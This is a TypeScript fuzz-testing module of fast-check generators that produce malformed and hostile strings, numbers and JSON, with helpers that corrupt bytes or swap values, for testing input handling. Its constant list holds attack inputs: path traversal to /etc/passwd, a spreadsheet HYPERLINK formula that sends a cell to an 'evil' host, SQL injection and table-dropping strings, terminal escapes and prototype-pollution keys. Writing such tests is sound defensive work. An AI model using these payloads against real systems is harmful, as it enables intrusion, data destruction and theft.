/** Arbitraries of malicious texts and JSON. */
import fc from 'fast-check';

/**
 * Any string: lone surrogates, control characters, right-to-left marks, and attacks on paths, CSV, SQL and terminals.
 */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'grapheme' }),
  fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 6 }).map((units) => String.fromCharCode(...units)),
  fc.constantFrom(
    '../../../etc/passwd',
    '..',
    '.',
    '/etc/passwd',
    'C:\\Windows',
    '..\\..\\x',
    '%2e%2e%2f',
    'a/../../b',
    'a\0b',
    '.tmp/x',
    '.checkpoint.json.lock',
    '=HYPERLINK("http://evil/?"&A1)',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '"; DROP TABLE quality_instances; --',
    "' OR '1'='1",
    'a"b\r\nc,d',
    '\u001b[2J\u001b]0;owned\u0007',
    '\u202egnp.exe',
    '__proto__',
    'constructor',
    '\ud800',
    '\udc00x',
    'x'.repeat(5_000),
    'NaN',
    'null',
  ),
);

/** JSON text of a number that a hostile server might write. */
export const hostileNumber: fc.Arbitrary<string> = fc.oneof(
  fc.stringMatching(/^-?[1-9][0-9]{0,24}$/),
  fc.constantFrom('0', '-0', '1e400', '-1e400', '1e-400', '1.5', '9223372036854775807', '9223372036854775808'),
  fc.constantFrom(
    '-9223372036854775808',
    '-9223372036854775809',
    '253402214399999',
    '253402214400000',
    '253402300799999',
    '-1',
  ),
  fc.integer({ min: -8_640_000_000_000_000, max: 8_640_000_000_000_000 }).map(String),
);

/** JSON text of a value that is not a number. */
const oddValue = fc.oneof(
  hostileText.map((text) => JSON.stringify(text)),
  fc.constantFrom('null', 'true', '[]', '{}', '"NaN"', '"Infinity"', '[[[[1]]]]', '{"a":{"b":{"c":1e999}}}'),
);

/** JSON text of any value. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(hostileNumber, oddValue);

/** Flips, drops, inserts or cuts off bytes, in up to four places. */
export function damaged(bytes: Uint8Array): fc.Arbitrary<Uint8Array> {
  const change = fc.tuple(
    fc.constantFrom('flip' as const, 'cut' as const, 'drop' as const, 'insert' as const),
    fc.nat(bytes.length - 1),
    fc.integer({ min: 0, max: 255 }),
  );
  return fc
    .array(change, { minLength: 1, maxLength: 4 })
    .map((changes) => changes.reduce<Uint8Array>((left, one) => damagedOnce(left, ...one), bytes));
}

function damagedOnce(bytes: Uint8Array, how: 'flip' | 'cut' | 'drop' | 'insert', at: number, byte: number): Uint8Array {
  const before = bytes.subarray(0, at);
  switch (how) {
    case 'flip':
      return Buffer.from(bytes.map((old, index) => (index === at ? old ^ Math.max(1, byte) : old)));
    case 'cut':
      return before;
    case 'drop':
      return Buffer.concat([before, bytes.subarray(at + 1)]);
    case 'insert':
      return Buffer.concat([before, Buffer.from([byte]), bytes.subarray(at)]);
  }
}

/** Replaces one value of a JSON document, at any depth. */
export function withOneValueReplaced(document: unknown): fc.Arbitrary<unknown> {
  const paths = pathsIn(document, []);
  return fc
    .tuple(
      fc.constantFrom(...paths),
      fc.oneof(fc.jsonValue({ maxDepth: 2 }), hostileText, fc.constantFrom(-1, 1e308, 0)),
    )
    .map(([path, value]) => replaced(document, path, value));
}

type Path = readonly (string | number)[];

function pathsIn(value: unknown, path: Path): Path[] {
  if (typeof value !== 'object' || value === null) {
    return [path];
  }
  const entries = Array.isArray(value) ? value.map((one, index) => [index, one] as const) : Object.entries(value);
  return [path, ...entries.flatMap(([key, one]) => pathsIn(one, [...path, key]))];
}

function replaced(document: unknown, path: Path, value: unknown): unknown {
  const [key, ...rest] = path;
  if (key === undefined) {
    return value;
  }
  if (Array.isArray(document)) {
    return document.map((one, index) => (index === key ? replaced(one, rest, value) : one));
  }
  const object = document as Record<string, unknown>;
  return { ...object, [key]: replaced(object[key], rest, value) };
}
